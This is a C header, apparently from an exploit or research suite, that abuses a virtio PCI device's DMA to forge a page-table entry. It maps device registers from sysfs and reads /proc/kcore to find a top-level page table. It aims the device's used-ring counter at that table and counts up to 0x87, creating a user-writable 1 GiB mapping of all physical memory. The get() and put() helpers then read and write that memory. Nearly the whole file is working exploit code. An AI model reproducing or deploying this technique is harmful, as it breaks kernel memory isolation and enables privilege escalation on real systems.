/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * By the registers of a PCI device, mapped from sysfs. A virtio device counts what it hands back in
 * a ring of ours (guest-images/payloads/virtio_dma.c). Here the ring lies in a page table of ours:
 * when the count is HUGE_PAGE, all memory is mapped for us.
 */
#ifndef FORGING_PCI_BAR_H
#define FORGING_PCI_BAR_H

#define QUEUE		1	/* to the console, which is port 0: there is none */
#define QUEUED		4
#define SPACE		(4 * PAGE)
#define HUGE_PAGE	0x87	/* present, writable, for users, 1 GiB from address 0 on */
#define ENTRY		256	/* of the table, which has one other in use: the first */
#define GIB		(1UL << 30)
#define WINDOW		(1UL << 45)	/* the first address of a table of its own */
#define PRESENT		1
#define FRAME_BITS	0x000ffffffffff000UL
#define RAM_START	0x100000UL

static volatile struct {
	struct {
		__u64 address;
		__u32 size;
		__u16 flags;
		__u16 next;
	} descriptors[QUEUED];
	struct {
		__u16 flags;
		__u16 index;
		__u16 ring[QUEUED];
		__u16 event;
	} available;
} rings __aligned(4096);

struct common {
	__u32 feature_select, feature, driver_feature_select, driver_feature;
	__u16 msix_config, queues;
	__u8 status, generation;
	__u16 select, size, msix_vector, enable, bell;
	__u32 descriptors[2], available[2], used[2];
};

static char *const all = (char *)WINDOW + ENTRY * GIB;

static void set(volatile __u32 address[2], unsigned long value)
{
	address[0] = value;
	address[1] = value >> 32;
}

static unsigned long word_at(unsigned long physical)
{
	unsigned long word = 0;

	sys(__NR_pread64, memory, &word, sizeof(word), KCORE_AT + physical);
	return word;
}

/* The table whose first entry leads there. */
static unsigned long table_above(unsigned long physical)
{
	unsigned long table, word;

	for (table = RAM_START; table < MEMORY_SIZE; table += PAGE) {
		word = word_at(table);
		if (word & PRESENT && (word & FRAME_BITS) == physical)
			return table;
	}
	return 0;
}

static unsigned long find_table(void)
{
	long at = sys(__NR_mmap, WINDOW, PAGE, PROT_READ | PROT_WRITE,
		      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	unsigned long table;
	int level;

	*(volatile char *)at = 1;
	table = physical((void *)at);
	for (level = 0; level < 3 && table; level++)
		table = table_above(table);
	return table;
}

static void count_to(int end, volatile __u16 *bell, unsigned long entry)
{
	int number;

	for (number = 1; number <= end; number++) {
		rings.available.index = number;
		*bell = QUEUE;
		while ((__u16)word_at(entry) != number)
			sleep_for(1);
	}
}

static bool begin(void)
{
	long file = sys(__NR_open, REGISTERS, O_RDWR), registers;
	volatile struct common *common;
	unsigned long entry;

	memory = sys(__NR_open, "/proc/kcore", O_RDONLY);
	registers = sys(__NR_mmap, 0, SPACE, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
	entry = find_table() + ENTRY * sizeof(entry);
	if (registers < 0 || entry < RAM_START)
		return false;
	rings.descriptors[0].address = physical(&rings);
	rings.descriptors[0].size = sizeof(rings);

	common = (void *)(registers + COMMON);
	common->select = QUEUE;
	common->size = QUEUED;
	set(common->descriptors, physical(&rings));
	set(common->available, physical(&rings.available));
	set(common->used, entry - sizeof(__u16));	/* flags, and then the count */
	common->enable = 1;
	count_to(HUGE_PAGE, (void *)(registers + NOTIFY + common->bell * STEP), entry);
	return true;
}

static void get(enum place place, unsigned long offset, void *to, unsigned long size)
{
	memcpy(to, all + places[place] + offset, size);
}

static void put(enum place place, unsigned long offset, const void *from, unsigned long size)
{
	memcpy(all + places[place] + offset, from, size);
}

#endif
